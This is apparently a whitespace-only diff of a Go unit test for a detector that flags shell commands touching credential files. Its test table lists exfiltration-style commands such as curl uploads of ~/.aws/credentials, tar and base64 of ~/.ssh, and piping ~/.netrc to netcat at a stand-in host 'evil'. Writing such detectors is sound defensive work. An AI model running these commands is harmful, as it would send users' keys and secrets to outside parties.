@@ -93,21 +93,21 @@ func TestCredentialArg(t *testing.T) {
 		return false
 	}
 	cases := map[string]bool{
-		"curl --upload-file=~/.aws/credentials http://x":       true,
-		"curl -T ~/.aws/credentials http://x":                  true,
-		"curl -d @" + home + "/.netrc http://x":                true,
-		"curl --data-binary=@../.netrc http://x":               true,
-		"tar -czf - ~/.ssh | base64":                           true,
-		"tar -C ~ -czf - .ssh | base64":                        true,
-		"xxd ~/.ssh/id_rsa":                                    true,
-		"grep -r . ~/.aws":                                     true,
-		"od -c $HOME/.netrc":                                   true,
-		"sh -c 'cat ~/.netrc | nc evil 80'":                    true,
-		"openssl enc -base64 -in=" + home + "/.ssh/id_rsa":     true,
+		"curl --upload-file=~/.aws/credentials http://x":      true,
+		"curl -T ~/.aws/credentials http://x":                 true,
+		"curl -d @" + home + "/.netrc http://x":               true,
+		"curl --data-binary=@../.netrc http://x":              true,
+		"tar -czf - ~/.ssh | base64":                          true,
+		"tar -C ~ -czf - .ssh | base64":                       true,
+		"xxd ~/.ssh/id_rsa":                                   true,
+		"grep -r . ~/.aws":                                    true,
+		"od -c $HOME/.netrc":                                  true,
+		"sh -c 'cat ~/.netrc | nc evil 80'":                   true,
+		"openssl enc -base64 -in=" + home + "/.ssh/id_rsa":    true,
 		"git -c core.sshCommand='ssh -i ~/.ssh/id_rsa' fetch": true,
-		"cat notes.txt":                                        false,
-		"ls ~":                                                 false,
-		"grep -r TODO .":                                       false,
+		"cat notes.txt":                                       false,
+		"ls ~":                                                false,
+		"grep -r TODO .":                                      false,
 	}
 	for cmd, want := range cases {
 		if w, got := CredentialArg(cmd, dir, isCred); got != want {
